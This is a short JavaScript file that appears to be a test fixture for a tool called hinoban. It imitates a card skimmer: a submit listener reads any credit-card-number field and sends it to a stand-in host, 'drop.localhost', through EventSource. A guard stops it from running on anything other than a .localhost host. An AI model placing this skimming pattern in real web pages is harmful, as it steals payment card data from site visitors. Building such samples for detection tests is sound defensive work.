/* Harmless imitation, for hinoban's tests: EventSource address. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { new EventSource('http://drop.localhost:' + location.port + '/es?k=' + n.value); } }, true);
